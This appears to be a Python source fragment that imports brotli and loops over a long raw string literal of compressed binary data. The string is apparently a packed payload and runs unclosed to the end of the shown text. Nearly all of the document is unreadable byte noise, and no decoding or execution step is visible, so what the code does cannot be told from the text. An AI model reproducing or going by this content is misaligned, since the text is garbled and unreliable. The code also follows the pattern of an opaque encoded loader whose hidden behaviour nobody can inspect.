import brotli
n=a=0;b=1
for c in r'''DOfA7":bc/Xo)reى'ayj5T<wܥ:Ԃ}N	fv sOvԂjo'܁"+Zif28]ӯ[	<rX
] ʻ}^h*+fRxDܲ,U(ݎbQ2L#>3[۽i ϼ}$qcXԚ'q3YhadX,^.(˅p۸׏!`A5p3WC@Ӊ.xضkfv&1KJW֏nVsXɗXЙȀ	}_ӬѮ5_O޿ܽgc߬ihi?5<F"5Gaʪ=IH&W=aCi1`sG*uJ[`)]֎w*l:ǉg8>Jy?(@.!$SgpS
2sMhUm)R-6u?=cŢh .)x)U:ERki	\sg	X?d <;0aL]'^oϓul=3\Uo:IJx4FD>mn4ذGtֳsϏ5
G#7.0L܆x);ըG)0ѓeߑq!DҘ(ڦ5VK{r5Jѳ(3kQyU	pG΍"!}fAkafB-E;_kǭR+xid9xyЧ#Kٔ	dԏT/'>~\ 
h[LUW؏ƃ(*9~[d7n#ݬu2d0qS˽ZeCPZ&)"YJHe*ZjO`!xL3)4OD`?}q^pGLS!>֊=}21я5BnM7C`-F	`A(yKzPZ2Z-4NPx|1STWʶGوjZA5#70Yx]ӭ)';H,K֖~j5DWs.ʕ{n?H}r=z>l&v|2k9Hpp_5MIپQÝ5,R=^&86k~X#Ff[`''3Cُ'0:SZ&DFy~h([8v5n̚<ޜN(go]Niw[6#cV<`m{ج[Ga''53oȼ-б\v#YZ@,h|ikq [M* '~'9bPcA+9@z0!(ړ%TRhyغE9vٓb&A7i,4?vKiq(vm:E 20{u7%ne;~RGqnȗ`pc!i1\̛STP'STpR"}@cUQ}ȋTآIܲ<;gL΀9ΠǖFMhK,.ق1iЍKOܮ#bf"mS_W.mDg)@Xqh08zl8pQXaVN;__úϚa`XTM=*N*<*gcAso)R@޿	Ͻد<g%rdI10Ofs^d7
҉T1ҝ1ھ"+!ىLaB%ćySܨV	$7"bfP-ہƈ+/Mҥ<fb%b&YsdC a%[/-8|LL{1NT{?kYD!N'0¹C0-PQQ-"nnʏ.@.;ЛBԭKّd}ő1-TWW@![xE+=|ӎEv\nš	qBƞ|=fV^ȁkDC\e	Ģ241;c5~uj>RC*'YGOπ];6[GȔ#5wW9D6=]׺i_Hq;[P4E	ZNcy6cxx7v#,vmdDӅ1xW\2׎ta'[y"ͬ:R OݓjEu"8԰o>Ӆ,9Tg|uU@΋a#exoo=hRLV
΋nqKqxFQ%dx5֗Xm=5Cn'(ʈo/.6ځD>'-Nk$vs7ξl\ٻHI/0Hmg
i@^͓qƬbr/gP
^F%27#:<nhokz<ϑ:*:P!N_6>sbwa/dn̔'W)3esFM&yyvcanų?`#Lӽ"!?YB̼,V*qIn`f	M>]{l͘clXYx4XWVtXlVI~z:n<s$p[Úo,{5^ay=.
Mo[U`rCEv.}n+
ӈ;~ *,3_MYmц(iy~\cj
hG#Q#Ȓ!+IA¯%rS#~b5.2{~	(b2ڧ@U׈;-Y|`2=sŕ967~6Ưj1I'qcY2BeOBXgˤםt#YmF#P`56tJX|!vjȜFCUULHh/?Ɍ2ݣ$@FڸbX-ݣV@SOm,4sx ͛̜k0XУ8~RdZ`Kk?KuTA)BZt?@Cu45C_"^JVXh=NIE3VNP?h̋'tKe`"ќ4e1'͢y(%%0%dCs!~1d@(E'͍[/$~0u&z-ЬYDexjhapHBKSإ4	խ6tT\:ãXoDAW-ðMfeq]q-h*0,C;Et#5&eɳ{Õz'A.פ՝l`ErNԽQ)~Fǟ?',v=Qziki2+$X&BdcБ"18[3xL!һI܏ΨE+z},vV ՚i{kջ̟SBfdXn`*ީL~uI	37Me ߫Nڌ˲я1dK'Il[ݾf"0hrB7WfCe<t3#Vx%L0+T[xư- F\)``ߘKn<$;[َhCϴ\܌@Z:؀\|T׵G=|l4vgvθilmH]'	2@r̛VWӳx7sa
n:J%սnҽ}Oޘvd
GH<vZqj)7ڠƤZ6xme1vAU+Z%ޮF"φ#ٓZ`/>6
?ږrb;ho"^'agNOoȆ|CJ+i"g5VX2ds4:ߐɆp'J6,FlǾ_Lj:!9jآEۏ,Js/~Ɵ>p;0'nJϠVqsFe8fu5ȷe'Kepl5gm;yQ8:eYswLTP?iAERWIfBJ
Jlm3VWb٠90B8ǒ1s;O%q܀#»ğ\BΡpF2Qw	n i&^v=ug4I!ԩl|'"Ĺ̂V?dǪJ#uTQ,j^єC4r	[e8?P<q8QCeD-y=F#hVUYk]ٸΓh156@3vϐ9ޥ^d4"+Z bV͟OH>,ms(`:EӬ<ߧ^m{_a%&;نl:9PܛG-Dz.B\%˘@_ެGӫKgcX--Jm=ބ,ٗww7uBq^H#̤w+N|,4k|5R]QDEyPe#w|%="+2C@DdY{K0%Ɗ#q<{2Ga,-VuBNT"JX;(b 3w|a-N&Wz֓FiwYWvuçtүRٷlRL&ßAi!TJ>+q_`RG"\JUl;ak2g0+_QUT2pd22@_.Fʀݻ` Z>(W.<t	v=n[E@1Z13p״įeTyF5Kq3JT0~JALQ$klˋ_;>RƵ;n E,x,5ZNcɼ|OyL l}m(v8tmJͺcm$<\T,KVŴ+="9Cw7Č o*1%5VtX4VDiESK}~cI4;:W=_Y)M"Gp$qj?7	/`QӎXaȑjI*ia;MR">Vc,fiֵ=@/Ķ}`|ۣ=X[kX-UקۘͪJyC5"NM077YVoJ3ξ .{Bnv&`*wKYF)8/Ю3"p77[ں*1;ީ/Sp#U:T%J+ەv5DL۾SJID`vMUHڟY"(o	*	+-a#'3^f\.Ti[T>0}*e+N{˺0"xpVU?ʇh-XSf(Fv۞mKmQBcwAN2*/SZDVZ4aM Mb"[<ɅYnB	&ŭxWcY. #PF2ƯAqhFzC.pԸ(O"9Ue|=i)(fMi*(DȎ\ r-M{g="2S3'ώv׀x۝Yhnܝ(>ϙeubT(y܅,[2\Mt[Z5vOYf><kxX. rda$.!`Yf*Q؋>tHA9^<ߐ2D\%Q;LED/IIM"*mݾUN2Ŷ"d4бy[ĕ"OVDkV1_G1Ԅ`w#0ߚT"TnAZ(_ҝPb?ldmaRHO[ח0D_͂AuҦ=%֕'XeTIѪ^+jIbݔf~:U6)ho:O|ZqzоӹTK()Si{ڣH}58nY
U{ۺݗ#ňD5^w%r<u0_	yF})!ΖqҢ $!yK:_e?Iz2m͞=b!^=/)ln!Й#sE%+{1)i(P];	̠LM^+joP6E:F1++Cs͸215.&Ϻ6Jì? $0΋Rfج|S1?IRlpʤv:ӯ _^4,L$vʉ86ŰF9^jϾN<knzowϖR99*,әK4e8b$13râ*v
¥Ze}oѪ?ѸM-lv!`8'SwcHӡڨkwN\̵/d/dea]q$ը6-7`}Bp`c$u ;&NW> +$k}ra$٭?Yg(ig,7i=
Ҝ^&Q;dBv10}`vţU0Bĝ'>IM6W[@WeՌhOLP*BEyY@Rqǽ]OMK$B^͆WfĦʲP\şp~'^̻_P& {ɤY5Z.w"E~%ˡȤyZr8N2HF8T`%Mҋ'6e1/oa6-֊p:ȐM+cԆ3&UpўKG{4x6T>jڮJ:ߦπGjôxxEѼڽU wGݲ6|¥hK2,h694Eڞn׫+""o,/MWiEغ{X#EdbQJ!zzxb?;;xbS| ?yNbv>,0xԍ[^
Uɾr-ZZ}JSox<?zGޝ@o\&PʥԦ6l;&D]e%P֑gB3t6[P6YΌ#<1jft9E#K(__N,3_k5}S)=cܯƢ~,4$ާװ|B>ga6n2LZɴaUF}1h׫4	#RrU\:N|r ݎFx#5g0q]}$u3NޯSyҨxAŴ˶*vG016ԥsظUgȡ7O^^tԈDe<4<p(zP5Įj¬'_<K1/q>*vgj}U5WGłw,*.{`JҼٌ|!"5]cocxu3Ox*}ihA}<W,8T`+U1|KӒۡ*by zgKLćz>1K<e^ p~GKK" /}hPĬӄQ+ςiJ 0L%I8HtDGƅ1JMm5dIju%dqޛ$!J£V1Y3wkZ==@6>E>XK֣]0oZrn\2o7mGle6ԱKu+'7gKXbK@v,cj2n:	ɰb~,ϧHʚHjl̮G~67E >w/{QP7hW=l >JBp%;~z(Gz֚Eո6Qn7 rV>nMFԣ5s}Qj	Jx)oKlƜ</SArF:E˹JulX\{]+_2{#
PoFs2΍޹-B <wlu֬]q^ψ<G(1#fǬFZ=;T6݊II_w~o~
I
+WS݊7ĳ3ɵh֦05ź1]cz)[ kFo9wӐ͓BOx<o=?0@2сN^Qv	SGћ#MN_7RcI);!8Λ;X!-x_K`5;]C^Tnݚ]B"9аLV?ƌ	Ҿ7׾٥Q`F)Q$|Lt-uM3֦)WۀYxVBmjʺ@$ttzGH]RpVɍA`#!.Xj5tQt;%+A־M4g:U\ppW#57S#_мܹ@6t`OTTƒֵLُVgKxssM,QILWjҨL1,}\/w߉ܱ[j]כUuO`:{gT)ANyҞ2؇,4P$SΖWչib{Xq`l0%HԎΌ	*ֽevm=#g1\ɨ{#3PF}ZDK-(y5Hdy_ıM9TU7wfI;ϵGrV3P:(/OJ65J2AɋѻHͷ;5Q3F]b,4Gַ7e$\ʆdqO
Q!(Z7h0XHĺ%9`hwsӰ߻Z	~
$zfZ!D؍Uy*KNTe=ǭbX^6za$Npd#M+4cegyN߲z\d_>Z0 +9=EiwΛ:0_[0?B]:p/ܧ1nV$3%bC;2I,3.צĈ2͹RCY<݊,#-9*)`-!Po=mL^i*w&DF.ً/~ST$ܡǎu$,WtÅ։<-{{?TX_v'mWLF+E,۝_Qٛ!CXH->FY0@eCd7gT`ukR6P(ڄٰO%[ݺWp$CRJ+lKn3_7W;IEt/с*GA3n[FXk8ֿ,s)Woη}d~"zU*z'dC~XjCkH#ʷG!x}Wwم%ZcIǰf֖hj6tΈ+!ڌpxK'`IV|K@V[mdnUHDN޾-}$SSf-Э17IUEIF0*E|	N~YY:^ӷÞA|Z*tƯ*%_76ѿ
MǔH9HCSVS@-9{R)ǫz5k?>FvkW&,s5~h|lz0iJHKA8v^aUfž0X*jSe)9ɚġ:)
ތbv8FN\v_:Rj\n9ZF2tFAZ`V$%`?a73Gޡ+c)x=-Z{,b.z܋XǂȒ+˪E9!ln!07o 6nXuZc{?_'E|X	V$k&\[_wp6E gr),Ӟi
PIAb$;u0@p}gbc*U`&#rl.lKq,D?ZpR:ZРpyXK`37y'֦Ufܥk{4]W{C12ӘuJH?-o0U>M(/?	6@ėЂ
F{FEڹ+%wP@H[	@l½S]?ܮ#t=ZO I":ӄ>Ԃ05?K.2ݓߣ,q(wz5GV
Aˢ](Usتʶj7 ܔv=dPgvK	*0.(.]0^žNMA7Bq!6XR#iB3̪L;#"=Y#4c^Ug|ձ9څϦȍ '$Fޕ4
g"ŹxHf	l,j%aq@A[+&
̲Ga/	ԥ` sD#\E`qX=;Feu8-kUT\.Ҙ(y_ OKKS&s1J	-SȄ6 Ҕk_(g~=n*GX%6d5o0ΨPZ2Ӱ)~'^Ԥ'Zke0"35ĩKԉFU6ػܱF=LlrwN#Kee+gվOyCJ+Wj۸aͬߘ^l4H-~XC
0
l9>Uu݌M!VhӬ/iўnE'_&9NڅXy,;&szmP<yo_]WO|RyŅAo{d-Q;МEFVׄVvH8+ekW<$}S3A]P&*muvab/^@YlԌόK	ז;"bԩS@#fiuYG?ƭ	`_VlE.J|@Dj#*-}4D݉Z>.kfV7VOOfʫ?s4~;-b
	eP&p`+Ё=l;K$6]|\`	`I,B1< ̀ΎĢ"(z^d")a;I(PӥgӃ*7sV9Fs2ps8<FܯuM:6xV$n5iy) `ͯW==P.]AeMŏE{Nk0&57Gݠ\i<jOH6.^
k3CZ`yʇ+AOeײĀ_8&q%Z܈"qՐ_6*jaؼFK</P4`JJ:ߌTX5@gzeuni[iG!qqj0M%4˿d72Nd?ޘ
&3[ۂs@m\>YBiy-n;&[SxCbs;xN]TӼ2BG`7ԉ)s98֨xK~>:%'>i^\	޴az,4S;/0|zMۺBR2Z{Y27zic:;F*Q/̖D5:A5_DjmA#lB0m
,	^?PX^1@mY1%5o{DB{ɦ̵u{<#\PF3@h}^S'&'N3 Jܗ}@}U&<y;[PiLe&93k*ǀplmͯS`}ZsGmƅ_L7ףnѨ	tϹdl74';&\d.hc~^H]IlOIe3 ?avN4@ԋ0T&
Z4@U[tXH&e҉CxRt$.<W՟CIM9u?,Ý'sM׃yEUq4?Rv^:v@vr""c?i&f5vU("%(]͘.ڕd[d^\RІaЀΌFynh&uM޷iϺ%["_5ޙ.9ޚM^΂v3ag\'cQ/524)Ot);-߿WjS({oOh=4,_őcn'ij[*CL~3֠LN4
@]kcf"}Z5xob3M,\ZN8Vq/S#jʷ^Iԭcu	4šd:#Sv3PE-bbsceuϚ!۝L4)<Nܡ3(dlne6A75Fŏ	jSDO:N,c}RIBdd$sދٺc՛7~\dHe(	ǄYR$CX"˙<˲qK(Y,JKC[D.:0?{eOO߾ܥnՔӔIJ~ٹr5Νe5DvԽ&3cO?FQBڗEEDXB
Pfu~2~Aw28ըǳwt,gj@# ćL|&:g(ەrGot=jV$nrEI qQW51]Y{nip|QYHc^L0<1u9@:G.jm9}zͥgM]scQtMXFMd`>t1I!gE*F$ԍ"UIFrq!M		h1s%ov0$YyL(v=-xUdT4q>>mp7;
M!	B5Z)pRT
ӳ/dʻ4T'pw,5U+9iƨݢ\'$̜ZWnq68"A=#ԋZ>Ԃ\=GpېɾĠ	%%jUN:˶R='_Z3Vq/]lƍZ&taJCAB,sc	к69ϓm.=~fvəITP81b>IЖ'	i
3%AʌWC%I=wLȘ3{0-'|[Zdб.`Vo)ĆZȨl2bvZ0Θ	?5p֯<?Ͳ-$p0aĊ\'DUdfpu,_P+Ҿ}(v֊2,[UЍD==ǘopx2	ԷGd; bfnςM[CÿzEVҖ!SgS~s#%YFv{{оͻ&!_#I4&<is
`Z1KdF9\ӟܥE,	M oQ@w{Lu\wPu')IʄJAԽgվį%Vڨ57ܗ}dNi0ʶS4rƊ{T_6N?HQ	[	WXҫLNP߼$'WAȍ4=F1Hm^cICtNUh՛;#W6|e0IؕםO-
ș	EU.gpEX-@L<z0AOqZ+ǑAlW:]VL6;=kp֏ǄC~Ɵl|9Y9ѝ;lV-ݐbhNuյX&^&Ӟ&Z"e͆ulQ_U[T<G:uK7%Ŭ#x,mlk_oZW8ԍSZ^49N˶`ާtk?qTGǵ!ݫ`bdvwJ/vhj4̪gʻfl @XR%@\־
Nx`S,cڧqRA7 {r=dwR$0eEs	zw>qpbH&aő?z{Y49[3=׳vŪ%pVpg?OۥW{Q/Ss."e%gZfV&kkjԓ=`_"Oĭ&]OF}2Vqٸ`-{VCpqح$ý·pڼ,RאK8S)~,ֆyiRc@q&XZ,Rc2"!fi	R?jeqQi*	,]8JKH[9L{Bkz;~Ôdz?Ȓ2jLLԚ [^swׅ4A͆s"ʲFeѵ3oN8$
ɐb{KŎeom[e<*
}y
J."=9jŽuMfej&)rߜ{^pzue&~4\Rr7OrE2xe
uƸQَevByж_;4ByDL+׌zH:apS<~cNʽ׋wH%Ze"&v_[K&T{96cqTmcR>ܓL~=!f>fK{Z_rBKҨJ/r,"
jĠv|r9F'$JڌC,"IdW"kho[DkVj	)Ř6"6I7'ϱEϷZ -"slfq2?_;ߥYFF}N
c/Bތs7Lf	ǳ*!"+ӯSvQΥDŚf+ĹÍP1?Bl.b`@<ކ@%2|vpLy7Rnqȓ2C%UXQ.QCZė|ix{H.dkܽԹ/hT%EyhAޖ!R^EA/2?PV[zZDk4>i.\<ncc=Ոdjڡh.act8feǺWT^c_˩|]J$P[[F0eCV*5'׵8
BfV</;:6.T95'xLy\?8.UnQ#ZW]K0ƪ9#?w8Uה&}Yh\0.oMÒU+و+}L]Rr`2]2b΃a\ћD;_Jh"*ۏ]$;*0H?Ji	'Hkqt|9\%clgrppH4HbrDm >D#/'DF}ūwŕzG
fnYʌc<7w+0sV/jJ} bRR}BTXp$(ŕ6Gk07yYԟ{jǂjjժ>9i1PΏZgkӼ9&p*NKv`%tBÉLhe_=BM-PkΛ	Fߎs*`׿&܊Qp]S[Jە0aߚ=E:9X]xJ4aS$ĸ{)7:qr~1޵;eE~E-t.DJȾ5mȉ'xPChYة`:|Oߕ/VEL5{z%Σk$o){5\\Ք&]*BcYhubC_iЯ'6b&~WZ30ӄgcqġn*TZXD
tdbZo#9RΡwRۼOӂb#zez940|"K+!N/F}9;-wהJ(ݸ{g857#$kn MH,U,1[؄,la"X]0_VF'ܓA"Z z]ݞ2bQ֢CV(MqbZ3L܂^|.[.ܡf&ǤRTu ۂV=y5ozOLE?$S۱cË́`fO-˿~7ܑUP	ZGAD;M{FѢp2JV%,Sq?>K4l%7֝#X%Qo/o4	AbGގ?RdN:D-Aߚ_cO<?,hbzJbjIX%I:n'^(rx&؆-ۮ2tSkݾ6<*
xp&;|0Ӥwyܭ݅~Nt_ۮߝhE9ҾACk=p4|(C@w<<9S\	:!<FӲpq`OnDFHoԟƲC^ZD-Ϛ6`2qe*Pkeɉ]kgӸS?[Rr
A^u{~&u7u9!R}s͜3
sۛ+T%F.8,΋yObJ&(z(O
${[d_%WğE޴ܦDU,|%
LgctdkRr5GTHQ8>~=ښZ"âaً|)iExIlk`R
0*I([v Ӌ7΄l܃7h)Ӫ؋#PP2HӋG>/P*(!ג)87hs{h>L@YtVΎEth@;]Nȃ@-xz))SzmxT3մkeFi$Slcy'ž XϮ'ӖԜq6ښsjWc.ۇ|֝3x\T[ǖ%OEkth\CG33ȷ^n7Nwp\/vYam7tҒw:ro[TĄs~x|G}\(y:Չ_їɔ"O]REQ˙D~vPtqW~Jܨo,*ՒXd6~xj r@`,{GxM:]Ȏ_,ii)ُ"q+)-DFH+Ow(	R[{313H	y&CryrKrׄ/./N"ge)ٽ=EX)o~3x]&+eʂ<07-0VewFzEܦ{JМcVk?%ݜQIMz-fgD'Â8TZ_@zK˱ݹ>(>ۍzQE3}XԒW['q-+3`c+Oۓ^Gcc3O;K-FiNz7==Âtcچ"CPG62IBP:uY.@h_Ou?'($o0C6o"ؓfի,ח\]#EǇ}ҹ;;p! ;Bͯ(FקK		1
/gm9hXZ]ڶʏ&&4#pH`MxvZ*g)L4;1Z~D3wA̢&;8pѹZ!2%ѩXq؋RbbC(2I%JkߎQӀø(n?["2=ecυ}E-*qbmh3[ole-xѼ[|%dn<sKV<%r@̿OLbni}B4*
ZJF r7V*W]1hL1!HSսWK4h>8Ɵ7\peBwR\U"5SDR%d"t*;a55/Bٵc[6#IQcL`D@n21qgo$Dis:jDAO8Wk]N$ͱH<Dz$.9aDqZ!?{Mz@#5_:x/'YI@f+f/8RA/؉hǵe+ZSRֳDy{[ş>_a& Y?:AyZQ"Neq(	ˈ\AQ1fZ	lXR1LόS,ݙ¢VIj}jG,;#J`)ߣ
H!s/uvMR#!!aWXR3֌w|=p:=L8C1VKEe˯
&zI~\DM#zGwPvfd{ϔ3&ܧ2IqfؒYT"Ϛ
P)r_1YdWAgq8Ë~U2جTQ	4#*
liC;r,[e6ئRқV@*ސ-;ĘNLTɼ:ι1_xՎ[)ILA̜}ynE[Iܡِk|=Hdg&4`O+{me]TFpNMЌtX΁f;t-lSs!XM<o![؊а39֨dKQ/۪8O}7BȓCF}=>
g' <ه`hU(|+2Y3J tsզ(S2OI yJk6ПRۂѾP+g21GEhrМH=5_sqaM7ثh֞O!?T*x<IxOT)(Iw6L@%RmDGrg5mW%fz5YVF<[2:Once̋#pa1}eE	.i*j]T5Ǳg^8X:65DΜ8@G' $n	qU)8c(UqJIo'qə%ۗj`'7/amiƾ]XntvZ(Sgןbm}ZAճJf*̿#uHSşt7\k{% 	q /9mռ6K˵ԟ^XU:׺@̉SiAљ)#Dӎp5HtFz)GNnl{6|߁)4Yj]
~V;0]ޒQW߂{@f'ІTߞ&.Qh@Q'[DSP$pNZn`tC)CP̮Ϛ~sZ=,	:e_B1X}[`L{ͣv>.ų|^^<Iy["^%Ӕz#=Qϊ}&\Ŏm53HԳ7?Nƹ<K8ȊJ\s7,#Qnsr!s
ۃ	iC+B0pچK/\s?Qu.qT<˚OB2vm?BP9g=C50M΢0kK?/V߮uHM/SH3fc4+|1)°zʁK	7' mJgeÃڡnr!X\4WՋCϒʩPr}o~%}GvEj{eiCz<S:gZˡZTWw_su}E-5(ϑb@yXu^_%ME]K˒d>#QrNUGÙ1lxnn}ǲƟdG'<CFHI7fO+~{9KNBwzRRgpN(vڭq*َFmAp^?^Z`uX0ϷѲ\xu35܃R&6].{j'2SɛbVkпmN DG:˹V͏.BI>\G\Ӝ@R0ʋ#!:z+Y}daѡd(=ܲKn!^}NOlU)o*	T[K+6-Ĕv9۶\98u^Ң̑!	[eUסSׅ-#͢(f1W9٩(8.E&a)S0L7(Y $Y~\:Zoojz_AݓȢ
7[g֩YTT# &uZz>X%І5%ʀ8}GяK
X:+HfPahp&Ys:4\Qigɑ&f۹S(L2Df9%8Y0l_v87_
=wu9]\eg]Z
5y_!j45\ИWa.<%ɲ{j6j͔y;H®S_rѫѦΏ'(5^p~0z}߇ׂЍ|.(lо+ɨUIndߚuL$N]<}N)_HG\$Mއ	8ǒSnn0t<i@'k܈E!UccnŎb_([y{QקtIoǘEM=k!@LcS}T˿v!K_jgfwKWgFQ$RՅsTBc?!R`!֘;AWk<T%Pr1ܩVPd[ItNCss	K4h/n
8e-T׼<֨ɏ֗SѰz$]e()G.b3-@PbIu/_ѥԷtmS".UJ	˂~U[x6]\?wT:@=͝ǻNDg.51 Vs;ײ@B:NJ!D	&\OUyg?RpU4ܯ*6ʧCZ=PG%3&[F[ŗu^ĨM]QȃBD_LXu.Q<Ŋ:X2gn'yOWC3zOհSmILҡ-2şZJq
yƫւl.̛ApFr>IjEfzb\fh")Q-oW+qf+ps^QYm+N4Y܆pH/Pˠ,RNA8afEd-sӪ%E8{{ۢ^}kڥ|m];ǟ%	fʷgCt\qFEL:jT ʘd,fP0k՜حq/RhB'ăj
eZ mw~f;rn:.œ!Y#-|fU{^&=v9
ֱ/)cjd^:0ު.YƔ]]Nf~m)V3J*,^"z9	$((]|4`Ca37gƬ-A6dLK;[jU̝Dc+}wgorѕJd;ׁwYc0Ͼ%4pb$Y*.8&>-yٞi.ގP~@ޛ!'GB8tO+_zOؿI'|`|=RTy؁oHfDE!n׮;iRaaK+ߡ&I.M\A|PdM%
O;)q.M~R
UʀnahʹK91=X,ɠ/@$B1ڨˣݽV.z_AԊ	]n-(#Mmuρ&Ѱl4h`OycG:p5\K>P/H0PUihiS˂GlJP+3͉ 'vΩO65V E)jw`4Haû@ܐ?"=BqQ	۩ΧM	Sܢ:SDY1եm5>sS/T?޳ i~K/W`6Ҫ
Vɀ QE6Ըp7Ba*k	޾Cμ;0EWG26θ۩m\9kqgބ#߯U<U$.ˌpРZWY5̺RTqy<ś	_΂?
FFu:J*j9^ORX9ɦF.ű)ʒ\Lymc9ҧ)˨aɲEsխy\?9ţ	ͨQYbWz5yc*˼b+LטC{6(tִ9H(V$m]f4Q~ʫ-?SDkIj *сF<^\$ԮԚL h0^!9D}d&'ْ)3Q*t<iLkb6=Soi(BlGiXeD.`I*T-P
ZmMߩ4r1eӍVS&s1GsC!7`o2Ǵ
Je3ZTƿť]˦k4W}|2}Fr8my.}.Уr!Țcw5ҶtSL+iB{c	v:Ľ84Bq?>#{ƞ$эr2cu)M]#`FgKf"zE0j
;~^\W~<B57dd}qWh=X
K^NR{
" tZ@h}9>"iؐ I(_IQYOh8Jgsp]|ފ64<+xܼAif

M؄QMƃJFXJ~PI),VP83R֢.fŶ"ڊ,~P	[xHĝs>J~*jCvͽID®j{Uo#FIrTĽċFk(̺ۦ"G']V?G#!͙_j֜2(ZgEI.%0HxaKǯ;$WrCC8ݛBP*صOvRl$A:`IUQՀ?]wM̖teF%Sq7X7)Q#\s L2	KFdv˶;Ym{fhJOa$e@ϲpDk>;<u3&*ނX2*ȳA1 ?χpߤ|v.TϬۄz0+վ7΄YV7\_cܟqM5֮{=ǲ+4?Jb?gd=/0hl6*;S9?7R1<@'xѕ!X\I̬?.C<EƂp^,)Dڟ(dݦ~nLuQ]7qF:A(sL}X(ԓfPKbGW,ڻkb) =Uɸ52
KIaG$1+.2~l˻c7Gyx3ۭ؏5^Ao.ETo|;0l<Ϭ([t,u\LT2;VߜDViR;Ybid	ǻiv.	ILf;s5ǊيzxbqM2(Y.pV!Xg90(,sšolOG,G:w1*L_h6Ai˗OͺÐ/#6T-_t8roK^Y#9gsh Rur.KҮ=c,L:ݾi"2	˫e&2?}Ǔݎ^fcUƆu>B|^L&mnDTтzR_qzG+2Έ8Pb9^ָO1\`9Y<4~`ԱBv2l.
z4X|YXwvp{[-ejF^f?|#Ģ<+}+^-k}4ȡnىJغb/|pKϐ0Tw2˥[@_U8
|+͉OTFe.zŰܶx+Z`8yAO>Ycy7@sNktŊƬtk[ăҏx	fAZO|$JFW.VsZe453_'o|{MTʁ^H#0PrMJz:Y$wղyU)QG71B(ːPT*mڑR5(~\uP(Z·̬chɿBģAI>ϻxHz;e=X1)Ĺmer5wF8nQIزV]O+mw~ŻQιr6@f__G4oM9ĎDʼn\
7$ ޡ5vdU4P]VlXЏ-a=nG˱fK؜n_t93w݊_X$/4pc|.,a+=lrD4|v$,d"ޠA#-PAPIA#Z͋dl>͞:4eљ"|W-{av")]vrJ;pqnG|b~umh`E;ԗM4JxO{z(A#şg #eep-E#ufePԮv82O3WٗCD6ۼK8=ϣ	YD+<>79Y˰s>G}٣e)^4!PL:%OdpKwTbCt;^sy4ҎfD%J3U7ܢ=֜zZmslrR*K1Ts͞>S0@|Ұo[GgBVk9$hݐAXGw³"".ƖҢr1fS_!\ۮ I"vB!|yƀQ۳7:mPr{͐ǄTԟ74_ׄv\l;Eؚ4Z\LK"<vڭR(Q@6)ē rh 0#{	uROǨbxoqk,.zB3	._U"GlYv
yJ=+/>qRѷe[64|q2hdbx#ӥyI1|X"yS7fR4So@Pχ$>_yg@Uz`Vz`xܯF5s4HОUZ7eErVܾ	״rJ>?c"$̓Z[(K«dNяϒrqk<^׸p9'כ0OOʠߞcusL~w_u}asv"8&GY%dGoۖ͛4:A˹m7IXnl$lHnm%G},wj1s]s>u]Ɉ8@ٵK(r{Ԝiu14ܹݎrkϹ~/(!_8މ1OgCYބtTQw;Ø ˵9Q^wnbVLPP}#6	.:'7*-dKNP1gfHjzL͸FMӺ(CW*ͦh'gݳiS-G/._"T8^	oֿ~ތkiQ?uٯBz^dz.RȚ@xfrӶr!~?8WߺE6ÖFqǄP[a	ĶNW>vd4V:xk&>α+.x>l&3j6:z9pSwh2ǟ"vRʥ]t׎HVk3J5'rc}9#DZ=0u1*ȣ{^1v1Sđw@lj+2!ۉ><3exgpq}z̪9ZϢOP\rYo
Jg6+IjN	mcE{XN1{#zXpwmx6-hmڻIrn+C
b$<L}NbݛLйoK[	(0o.=7֪ĳ(^(-dɰжQg݄QOd$xvqp"`wfqތp~gEZrnu'P/<Fo_H;A[r("EjV	;sr[W'PD̴ԪtxE_J8c212ܑ0xY:2ov !%	*p~Kz$ݟ
ЇP*QfSn8$*_VW]'"l4ophgaMEc|la6?D?\^ ىŶrqVڱFY?U3<I,ѯ_Γxz&akIåNQg=#*E!Wuj1ŞW(taj?U_8W3l&uPRc%s
S09ֻJd]r&ٺMnlחmv^Hח֣'``%<6ÿ{]Md{ˉaޓg_Hڈrհ9}s/Cz]ܳ\Vғ0 cJۉIvBC`[E Bԣ~48Yz<eOٵ7t֩E6ʞA~[SAlHs$ϲ%!vOM)D?7z|
_Μ%HM&G&.Xјŭ)kK}YzJhӊ;@aFtnϒt|5$q̪[^@d.0pOFiK)/JVtHЎ5u)ˠǐsJ=et҅ڈt^/4(!1" >dijlr/ռQrJveX_0Ֆǁ$A;^0|F"܃X?s$[	ͬvSGV]]Ы9~Ђ(ҵ΢	̀TwvĬ
ţ=CVbٟm(ԩ'Fz,"0D|5[J&20
(vig#Iפ)%)	b]bFlAT!/XZA-H/%r)40yDH^tEb8%SlH(]pĒ
٥f9l&KXޘP{X]h\g)ʌlf+UPzprPJ8|Zt\W9ߋ6p`ݮCs|	tEӱ`KW)ɑB^\cNtc\ٝͶ!v ܻdc~fGO>iM~mQ	J*&u_(L1Wʔћ7~ǴU?*Ʋm<pvFN7C9"µȤK5"{D^l{l0GuD^n2r8L2_:wKA(;Էo
ɩd'ؙ<?ȎSՎWGk>E{*0V[;-ҵ>`(މK`Y1s#.x#y<Hl\נeӌ|zv^nEב
$Ǒ'¸c|!lUn|O`/'.Ɓ6jdћZnէ
m̶|_GG,$Jڊ.tkۊ)Q}6۹SÞ3gJilWsVÆ!N=>q'ֿN̃|ë_SoAI1Fs.EaXq޹'k|>%l7p;m^+b$"B3K
١,֤>	+lS$Ҹ%S~jeA}b&0ͱ)sGf^A[]@ie_uqLl͈Kzط2Nu8
acFX{xq]Gnu5CI-}wBU-bpD̤;MӋ$cbcKf`1Ɔ.F?F9	G(_ IIES++)0֛!{(:Ky8&(E1U|	n×'؜:9aճ-}QY_Ȥwdղayՙ-aVa0E]w"\B\P]`7՞́L}49=O!*Y΅ZͲ+ҼٟTEZbI QZ?6Hgһj1'fG=rgFg2d	̎YT;SoDF,ppb.!918À7sl#@IӒsD-9j
[emFCv}qFK	o2պH(o'bnwp%[YG_Aڋ5D?`qc7ʯU'Qp|bUoԓױhBRGU	]ML??,=֫{%9)jyȗG!RJOhV9.7T:4Zie(Lky603֡ڰ~8߄ǚZXhyVʂdBiJT?zx6tO|d2H2vUygr&|%!+=
.۷ɃfOn1C`[A\Ưĳ$5!N"L"UN;aʤ?MM5[wV~GpٖH]c:]0B-Z#\!o1)ț%/eF|Shڐh~n
eY
